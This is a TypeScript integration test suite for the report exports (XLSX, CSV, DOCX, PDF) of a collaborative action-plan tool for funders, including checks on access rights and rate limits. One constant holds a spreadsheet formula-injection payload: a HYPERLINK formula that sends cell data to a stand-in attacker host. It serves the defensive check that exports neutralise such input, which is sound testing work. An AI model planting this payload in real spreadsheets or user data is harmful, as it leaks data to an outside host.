import { createRequire } from 'node:module'
import {
  actionsOf,
  actualsOf,
  addDays,
  appendActual,
  appendIndicatorValue,
  bodiesOf,
  buildAction,
  buildBody,
  buildIndicator,
  buildObjective,
  type Decision,
  type Indicator,
  indicatorsOf,
  keyBetween,
  type Meeting,
  objectivesOf,
  planMetaOf,
  todayIso,
  validateActualEntry,
} from '@ensemble/shared'
import ExcelJS from 'exceljs'
import { strFromU8, unzipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createAlliance, type TestMember } from '../helpers/alliance.ts'
import { connectDoc, type DocClient } from '../helpers/collab.ts'
import { signUp } from '../helpers/http.ts'
import { addMember } from '../helpers/invitations.ts'
import { serverPerSuite } from '../helpers/server.ts'
import { waitFor } from '../helpers/waitFor.ts'
import { waitForRows } from './history-flow.ts'

/** pdf-parse's library entry (its index runs a self-test on import), typed for what these tests read. */
const pdfParse = createRequire(import.meta.url)('pdf-parse/lib/pdf-parse.js') as (data: Buffer) => Promise<{ text: string; numpages: number }>

/**
 * The reports of the « Rapports » page on a real server (EXP): a plan with objectives, indicators
 * and their values (a correction included), actions with RACI, milestones and resources, and a
 * decision of the year; each export is parsed back (XLSX with exceljs, CSV by hand, DOCX unzipped,
 * PDF text extracted) and checked against that data. A hostile action title comes out inert.
 */
const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'
const TODAY = todayIso()
/** Dates of the year under review lie up to yesterday, so that one action is late whatever today is (1 January included). */
const YESTERDAY = addDays(TODAY, -1)
const YEAR = Number(YESTERDAY.slice(0, 4))

describe('EXP reports for funders', () => {
  const server = serverPerSuite()
  let workspaceId: string
  let partnerId: string
  let admin: TestMember
  let editor: TestMember
  let observer: TestMember
  let decision: Decision
  const docs: DocClient[] = []
  const url = (file: string) => `/api/workspaces/${workspaceId}/exports/${file}`

  const INDICATOR: Omit<Indicator, 'values' | 'partnerId'> = {
    objectiveId: 'o1',
    name: 'Classes accueillies',
    family: 'results',
    unit: 'classes',
    baseline: 10,
    target: 40,
    targetDate: `${YEAR + 1}-06-30`,
    source: 'Registre des séjours',
    frequency: 'quarterly',
    purposes: ['monitor', 'prove'],
  }

  beforeAll(async () => {
    const alliance = await createAlliance(server.url, ['editor', 'observer'])
    ;({ workspaceId, partnerId, admin } = alliance)
    ;[editor, observer] = alliance.members as [TestMember, TestMember]
    const plan = await connectDoc(admin.client, workspaceId, 'plan')
    docs.push(plan)
    await plan.synced()
    plan.doc.transact(() => {
      const meta = planMetaOf(plan.doc)
      meta.set('title', 'Plan d’action du littoral')
      meta.set('start', `${YEAR - 1}-01-01`)
      meta.set('end', `${YEAR + 1}-12-31`)
      objectivesOf(plan.doc).set(
        's1',
        buildObjective({ kind: 'strategic', title: 'Le littoral, classe ouverte', horizon: 4, vision: 'Chaque enfant découvre la mer.', order: 'a0' }),
      )
      objectivesOf(plan.doc).set(
        'o1',
        buildObjective({
          kind: 'operational',
          title: 'Classes de mer',
          statement: 'Accueillir 40 classes par an',
          parentId: 's1',
          partnerIds: [partnerId],
          targetDate: `${YEAR + 1}-06-30`,
          resources: '2 animateurs, 1 car',
          status: 'draft',
          order: 'a1',
        }),
      )
      indicatorsOf(plan.doc).set('i1', buildIndicator({ ...INDICATOR, partnerId }))
      indicatorsOf(plan.doc).set('i2', buildIndicator({ ...INDICATOR, name: 'Solde du budget', unit: '€', baseline: -500, target: 0, partnerId }))
      actionsOf(plan.doc).set(
        'a1',
        buildAction({
          title: HOSTILE,
          objective: 'classes de mer',
          order: 'a0',
          status: 'in_progress',
          progress: 40,
          start: `${YEAR}-01-01`,
          deadline: `${YEAR + 1}-06-30`,
          accountable: admin.userId,
          responsible: [editor.userId],
          informed: [observer.userId],
          milestones: { m1: { title: 'Première classe', date: `${YEAR}-06-01`, done: true, order: 'a0' } },
          resources: { r1: { label: 'Transport', amount: 1200.5, unit: 'EUR', partnerId } },
        }),
      )
      actionsOf(plan.doc).set(
        'a2',
        buildAction({
          title: 'Forum des partenaires',
          order: 'a1',
          status: 'done',
          progress: 100,
          start: `${YEAR}-01-01`,
          deadline: `${YEAR}-01-01`,
          accountable: admin.userId,
          responsible: [editor.userId],
        }),
      )
      actionsOf(plan.doc).set(
        'a3',
        buildAction({
          title: 'Sentier du littoral',
          objective: 'Un texte libre',
          order: 'a2',
          status: 'in_progress',
          progress: 10,
          start: `${YEAR - 1}-01-01`,
          deadline: YESTERDAY,
          accountable: editor.userId,
          responsible: [editor.userId],
        }),
      )
    })
    // The responsible partner's member enters values: one, its correction, a later one, a negative one.
    const values = await connectDoc(editor.client, workspaceId, 'plan')
    docs.push(values)
    await values.synced()
    await waitFor(() => plan.errors.length > 0 || indicatorsOf(values.doc).has('i2'), { message: 'indicators reach the editor' })
    expect(plan.errors).toEqual([])
    const entry = (value: number, date: string, comment: string, corrects?: string) => ({
      value,
      date,
      comment,
      by: editor.userId,
      at: Date.now(),
      ...(corrects ? { corrects } : {}),
    })
    values.doc.transact(() => {
      const i1 = indicatorsOf(values.doc).get('i1')!
      appendIndicatorValue(i1, 'v1', entry(12, `${YEAR}-01-01`, 'Saisie erronée'))
      appendIndicatorValue(i1, 'v2', entry(14, `${YEAR}-01-01`, 'Correction du registre', 'v1'))
      appendIndicatorValue(i1, 'v3', entry(20, YESTERDAY, 'Fin d’année'))
      appendIndicatorValue(indicatorsOf(values.doc).get('i2')!, 'v4', entry(-250, YESTERDAY, 'Déficit réduit'))
    })
    // The partner's member declares 300 € delivered in the year; the admin (steering) validates it (BAL).
    appendActual(values.doc, 'e1', { partnerId, period: String(YEAR), unit: 'EUR', amount: 300, comment: 'Transport payé', by: editor.userId, at: Date.now() })
    await waitFor(() => plan.errors.length > 0 || values.errors.length > 0 || actualsOf(plan.doc).has('e1'), { message: 'the declaration reaches the admin' })
    validateActualEntry(plan.doc, 'e1', { by: admin.userId, at: Date.now() })
    await waitForRows(admin.client, workspaceId, 'plan', 2)
    expect([...plan.errors, ...values.errors]).toEqual([])

    // A decision of the year, recorded in a meeting of the steering committee.
    const governance = await connectDoc(admin.client, workspaceId, 'governance')
    docs.push(governance)
    await governance.synced()
    bodiesOf(governance.doc).set(
      'b1',
      buildBody({
        name: 'Comité de pilotage',
        level: 'strategic',
        mandate: 'Pilote le plan d’action.',
        seats: { [partnerId]: 2 },
        decisionRule: 'simple_majority',
        quorum: 1,
        cadence: 'monthly',
        chair: null,
        order: keyBetween(null, null),
        voting: null,
      }),
    )
    const meetings = `/api/workspaces/${workspaceId}/meetings`
    const meeting = await waitFor(
      async () => {
        const res = await admin.client.request('POST', meetings, {
          bodyId: 'b1',
          title: 'Comité de pilotage annuel',
          startsAt: `${YEAR}-11-24T14:00:00+01:00`,
          endsAt: `${YEAR}-11-24T16:00:00+01:00`,
        })
        return res.status === 201 ? ((await res.json()) as Meeting) : null
      },
      { message: 'meeting scheduled' },
    )
    decision = await admin.client.json<Decision>(
      'POST',
      `${meetings}/${meeting.id}/decisions`,
      { title: 'Adopter le budget des classes de mer', outcome: 'adopted' },
      201,
    )
  })
  afterAll(() => {
    for (const d of docs) d.destroy()
  })

  async function download(who: TestMember, file: string, contentType: string): Promise<Buffer> {
    const res = await who.client.request('GET', url(file))
    expect(res.status, await res.clone().text()).toBe(200)
    expect(res.headers.get('content-type')).toBe(contentType)
    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${file}"`)
    return Buffer.from(await res.arrayBuffer())
  }

  it('[EXP1] [EXP3] [EXP4] the plan as XLSX: actions with RACI names, milestones, resources; numbers stay numbers; the hostile title is inert text', async () => {
    const bytes = await download(admin, 'plan.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(bytes as unknown as ArrayBuffer)
    expect(book.worksheets.map((w) => w.name)).toEqual(['Actions', 'Jalons', 'Ressources'])
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)))
    const actions = rowsOf(book.getWorksheet('Actions')!)
    const header = actions[0]!
    const col = (name: string) => header.indexOf(name)
    expect(actions).toHaveLength(4)
    const hostile = actions[1]!
    expect(hostile[col('Action')]).toBe(`'${HOSTILE}`)
    expect(hostile[col('Objectif opérationnel')]).toBe('Classes de mer')
    expect(hostile[col('Statut')]).toBe('En cours')
    expect(hostile[col('Avancement (%)')]).toBe(40)
    expect(hostile[col('A — responsable de la décision')]).toBe('Claire Admin')
    expect(hostile[col('R — réalisent')]).toBe('Membre 0 editor')
    expect(hostile[col('I — informés')]).toBe('Membre 1 observer')
    expect(actions[3]![col('Objectif opérationnel')]).toBe('objectif à rattacher')
    expect(actions[3]![col('En retard')]).toBe('oui')
    expect(rowsOf(book.getWorksheet('Jalons')!)[1]).toEqual([`'${HOSTILE}`, 'Première classe', `${YEAR}-06-01`, 'oui'])
    expect(rowsOf(book.getWorksheet('Ressources')!)[1]).toEqual([`'${HOSTILE}`, 'Transport', 1200.5, '€', 'Association Littoral'])
  })

  it('[EXP1] [EXP2] [EXP3] the plan as CSV for French Excel: BOM, `;`, decimal comma, RFC 4180 quoting, the hostile title inert', async () => {
    const text = (await download(admin, 'plan.csv', 'text/csv; charset=utf-8')).toString('utf8')
    expect(text.startsWith('\uFEFFAction;')).toBe(true)
    const rows = parseCsv(text.slice(1))
    expect(rows).toHaveLength(4)
    // Quoted (it holds `"`), neutralised: a spreadsheet shows the text and never runs it.
    expect(rows[1]![0]).toBe(`'${HOSTILE}`)
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Cliquez"")"`)
    expect(rows[1]).toContain('Transport : 1200.5 € (Association Littoral)')
    expect(rows[1]![4]).toBe('40')
    expect(rows.slice(1).map((r) => r[0])).toEqual([`'${HOSTILE}`, 'Forum des partenaires', 'Sentier du littoral'])
  })

  it('[EXP1] [EXP3] objectives and indicators: every value entry with who and when, the corrected one marked, negative numbers stay numbers', async () => {
    const objectives = new ExcelJS.Workbook()
    await objectives.xlsx.load(
      (await download(observer, 'objectives.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')) as unknown as ArrayBuffer,
    )
    const rows = rowsOf(objectives.getWorksheet('Objectifs')!)
    expect(rows.map((r) => r.slice(0, 3))).toEqual([
      ['Type', 'Objectif', 'Objectif stratégique'],
      ['Stratégique', 'Le littoral, classe ouverte', ''],
      ['Opérationnel', 'Classes de mer', 'Le littoral, classe ouverte'],
    ])
    const o1 = rows[2]!
    expect(o1).toContain('Association Littoral')
    expect(o1).toContain('Brouillon')
    expect(o1.at(-2)).toBe(2) // indicators
    expect(o1.at(-1)).toBe(1) // the action whose text names it

    const csv = parseCsv((await download(admin, 'indicators.csv', 'text/csv; charset=utf-8')).toString('utf8').slice(1))
    const h = csv[0]!
    const at = (name: string) => h.indexOf(name)
    const byEntry = Object.fromEntries(csv.slice(1).map((r) => [r[at('Saisie n°')], r]))
    expect(Object.keys(byEntry).sort()).toEqual(['v1', 'v2', 'v3', 'v4'])
    expect(byEntry.v1![at('Valeur')]).toBe('12')
    expect(byEntry.v1![at('En vigueur')]).toBe('non')
    expect(byEntry.v2![at('Corrige la saisie n°')]).toBe('v1')
    expect(byEntry.v2![at('En vigueur')]).toBe('oui')
    expect(byEntry.v2![at('Saisie par')]).toBe('Membre 0 editor')
    expect(byEntry.v2![at('Saisie le')]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d$/)
    // A negative number is a number, not a formula: no apostrophe.
    expect(byEntry.v4![at('Valeur')]).toBe('-250')

    const indicators = new ExcelJS.Workbook()
    await indicators.xlsx.load(
      (await download(admin, 'indicators.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')) as unknown as ArrayBuffer,
    )
    expect(indicators.worksheets.map((w) => w.name)).toEqual(['Valeurs', 'Indicateurs'])
    const defs = rowsOf(indicators.getWorksheet('Indicateurs')!)
    const solde = defs.find((r) => r[0] === 'Solde du budget')!
    expect(solde[defs[0]!.indexOf('Valeur de départ')]).toBe(-500)
    expect(solde[defs[0]!.indexOf('Dernière valeur')]).toBe(-250)
    const classes = defs.find((r) => r[0] === 'Classes accueillies')!
    expect(classes[defs[0]!.indexOf('Dernière valeur')]).toBe(20)
    expect(classes[defs[0]!.indexOf('Finalités')]).toBe('Suivre, Prouver')
  })

  it('[EXP8] the balance as XLSX and CSV: per partner and period committed, due, declared, validated €, ratio, flag, with the participation; parsed back against the plan', async () => {
    const bytes = await download(observer, 'balance.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet')
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(bytes as unknown as ArrayBuffer)
    expect(book.worksheets.map((w) => w.name)).toEqual(['Équilibre'])
    const rows = rowsOf(book.getWorksheet('Équilibre')!)
    const header = rows[0]!
    const col = (name: string) => header.indexOf(name)
    expect(header).toEqual([
      'Partenaire',
      'Période',
      'Engagé (€)',
      'Dû à date (€)',
      'Déclaré (€)',
      'Validé (€)',
      'Déclaré / dû (%)',
      'Déséquilibre',
      'Réunions suivies',
      'Actions portées (A)',
      'Actions réalisées (R)',
      'Votes exprimés',
    ])
    // One partner, the plan's three years and the total.
    expect(rows.slice(1).map((r) => [r[col('Partenaire')], r[col('Période')]])).toEqual(
      [String(YEAR - 1), String(YEAR), String(YEAR + 1), 'Total'].map((p) => ['Association Littoral', p]),
    )
    // a1 brings 1,200.50 € from YEAR-01-01 to (YEAR+1)-06-30, pro rata of its days; due up to today.
    const day = (iso: string) => Date.parse(`${iso}T00:00:00Z`) / 86_400_000
    const days = (from: string, to: string) => Math.max(0, day(to) - day(from) + 1)
    const total = days(`${YEAR}-01-01`, `${YEAR + 1}-06-30`)
    const inYear = days(`${YEAR}-01-01`, `${YEAR}-12-31`)
    const dueInYear = (1200.5 * days(`${YEAR}-01-01`, TODAY < `${YEAR}-12-31` ? TODAY : `${YEAR}-12-31`)) / total
    const year = rows.find((r) => r[col('Période')] === String(YEAR))!
    expect(year[col('Engagé (€)')]).toBeCloseTo((1200.5 * inYear) / total, 2)
    expect(year[col('Dû à date (€)')]).toBeCloseTo(dueInYear, 2)
    expect(year[col('Déclaré (€)')]).toBe(300)
    expect(year[col('Validé (€)')]).toBe(300)
    expect(year[col('Déclaré / dû (%)')]).toBeCloseTo(Math.round((300 / dueInYear) * 1000) / 10, 1)
    expect(year[col('Déséquilibre')]).toBe(300 < dueInYear * 0.8 ? 'oui' : 'non')
    const before = rows.find((r) => r[col('Période')] === String(YEAR - 1))!
    expect([before[col('Engagé (€)')], before[col('Déclaré / dû (%)')], before[col('Déséquilibre')]]).toEqual([0, '', 'non'])
    const sum = rows.find((r) => r[col('Période')] === 'Total')!
    expect(sum[col('Engagé (€)')]).toBeCloseTo(1200.5, 2)
    expect(sum[col('Déclaré (€)')]).toBe(300)
    // Participation: the editor (of the partner) is responsible for the three actions under way or done; no meeting attended, no vote.
    for (const r of rows.slice(1)) expect([r[col('Réunions suivies')], r[col('Actions réalisées (R)')], r[col('Votes exprimés')]]).toEqual([0, 3, 0])

    const csv = parseCsv((await download(observer, 'balance.csv', 'text/csv; charset=utf-8')).toString('utf8').slice(1))
    expect(csv[0]).toEqual(header)
    const csvYear = csv.find((r) => r[1] === String(YEAR))!
    expect(csvYear[col('Déclaré (€)')]).toBe('300')
    expect(csvYear[col('Validé (€)')]).toBe('300')
  })

  it('[EXP9] the annual review has the partners’ balance of the year and the participation', async () => {
    const docx = unzipSync(
      new Uint8Array(await download(editor, `bilan-annuel-${YEAR}.docx`, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')),
    )
    const text = [...strFromU8(docx['word/document.xml']!).matchAll(/<w:t(?: [^>]*)?>(.*?)<\/w:t>/g)].map((t) => t[1]!).join('\n')
    expect(text).toContain('4. Équilibre entre partenaires')
    expect(text).toContain('Association Littoral')
    expect(text).toContain('300 €')
    expect(text).toContain('Participation depuis le début du plan')
    const pdf = (await pdfParse(await download(editor, `bilan-annuel-${YEAR}.pdf`, 'application/pdf'))).text.replace(/\s+/g, ' ')
    expect(pdf).toContain('4. Équilibre entre partenaires')
    expect(pdf).toContain('300 €')
  })

  it('[EXP5] the annual review as DOCX and PDF: title page, objectives, indicators against target, actions done / in progress / late, the year’s decisions', async () => {
    const docx = unzipSync(
      new Uint8Array(await download(admin, `bilan-annuel-${YEAR}.docx`, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')),
    )
    const paragraphs = [...strFromU8(docx['word/document.xml']!).matchAll(/<w:p>(.*?)<\/w:p>/g)].map((p) =>
      [...p[1]!.matchAll(/<w:t(?: [^>]*)?>(.*?)<\/w:t>/g)].map((t) => unescapeXml(t[1]!)).join(''),
    )
    const pdf = await pdfParse(await download(observer, `bilan-annuel-${YEAR}.pdf`, 'application/pdf'))
    expect(pdf.numpages).toBeGreaterThanOrEqual(5)
    const pdfText = pdf.text.replace(/\s+/g, ' ')
    for (const expected of [
      `Bilan annuel ${YEAR}`,
      'Alliance de test',
      'Plan d’action du littoral',
      '1. Objectifs',
      'Classes de mer',
      '2. Indicateurs',
      'Classes accueillies',
      '3. Actions',
      '1 réalisées, 1 en cours, 1 en retard',
      'Forum des partenaires',
      'Sentier du littoral',
      '4. Équilibre entre partenaires',
      '5. Décisions de l’année',
    ]) {
      expect(paragraphs.join('\n')).toContain(expected)
      expect(pdfText).toContain(expected)
    }
    // The indicator's values of the year (the corrected one replaced) and where it stood at the year's end.
    const all = paragraphs.join('\n')
    expect(all).toContain(`01/01/${YEAR} : 14`)
    expect(all).not.toContain(`01/01/${YEAR} : 12`)
    expect(pdfText).toContain(`01/01/${YEAR} : 14`)
    expect(paragraphs).toContain('-250')
    // The hostile title is printed as text in a document (no formulas there).
    expect(paragraphs).toContain(HOSTILE)
    // The decisions of the year they were taken in (recorded today, by the server's clock), and not of the year before.
    const decisionYear = Number(decision.decidedAt.slice(0, 4))
    const reviewText = async (year: number) =>
      strFromU8(
        unzipSync(
          new Uint8Array(await download(admin, `bilan-annuel-${year}.docx`, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document')),
        )['word/document.xml']!,
      )
    const decided = await reviewText(decisionYear)
    expect(decided).toContain('1 décision inscrite au registre')
    expect(decided).toContain(decision.title)
    // Recorded without attendance, as the register has it (no quorum).
    expect(decided).toContain(({ adopted: 'Adoptée', rejected: 'Rejetée', no_quorum: 'Sans quorum' } as const)[decision.outcome])
    const before = await reviewText(decisionYear - 1)
    expect(before).toContain('0 décision inscrite au registre')
    expect(before).not.toContain(decision.title)
  })

  it('[EXP6] rights: an observer downloads, a member of another alliance and a stranger are refused; an unknown file is a 404 naming the field', async () => {
    expect((await observer.client.request('GET', url('plan.csv'))).status).toBe(200)
    expect((await fetch(`${server.url}${url('plan.csv')}`)).status).toBe(401)
    const foreign = await signUp(server.url, 'Membre d’une autre alliance')
    const { id: other } = await foreign.client.json<{ id: string }>('POST', '/api/workspaces', { name: 'Autre alliance' }, 201)
    expect((await foreign.client.request('GET', `/api/workspaces/${other}/exports/plan.csv`)).status).toBe(200)
    const refused = await foreign.client.request('GET', url('plan.xlsx'))
    expect(refused.status).toBe(404)
    expect(((await refused.json()) as { error: { code: string } }).error.code).toBe('not_found')
    const unknown = await admin.client.request('GET', url('balance.pdf'))
    expect(unknown.status).toBe(404)
    expect(((await unknown.json()) as { error: { field?: string } }).error.field).toBe('file')
    expect((await admin.client.request('GET', url('bilan-annuel-1850.pdf'))).status).toBe(404)
  })

  it('[EXP6] each member’s exports are bounded: past the budget, 429 with Retry-After, and the others still download', async () => {
    const member = await signUp(server.url, 'Membre pressé')
    await addMember(admin.client, workspaceId, member, { role: 'observer', partnerId })
    let status = 200
    let answer: Response | undefined
    for (let i = 0; i < 30 && status === 200; i++) {
      answer = await member.client.request('GET', url('objectives.csv'))
      status = answer.status
    }
    expect(status).toBe(429)
    expect(Number(answer!.headers.get('retry-after'))).toBeGreaterThan(0)
    expect(((await answer!.json()) as { error: { code: string } }).error.code).toBe('rate_limited')
    expect((await editor.client.request('GET', url('objectives.csv'))).status).toBe(200)
  })
})

/** The worksheet's rows as plain values (1-based columns made 0-based; empty cells as ''). */
function rowsOf(sheet: ExcelJS.Worksheet): unknown[][] {
  const rows: unknown[][] = []
  sheet.eachRow({ includeEmpty: false }, (row) => {
    const values: unknown[] = []
    for (let i = 1; i <= sheet.columnCount; i++) {
      const value = row.getCell(i).value
      values.push(value === null || value === undefined ? '' : value)
    }
    rows.push(values)
  })
  return rows
}

/** RFC 4180 with `;`: quoted fields may hold separators, quotes (doubled) and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let field = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"'
      i++
    } else if (quoted && c === '"') quoted = false
    else if (quoted) field += c
    else if (c === '"') quoted = true
    else if (c === ';') {
      row.push(field)
      field = ''
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field)
      rows.push(row)
      row = []
      field = ''
      i++
    } else field += c
  }
  return rows
}

const unescapeXml = (text: string): string =>
  text.replace(/&(amp|lt|gt|quot|apos);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" })[name]!)
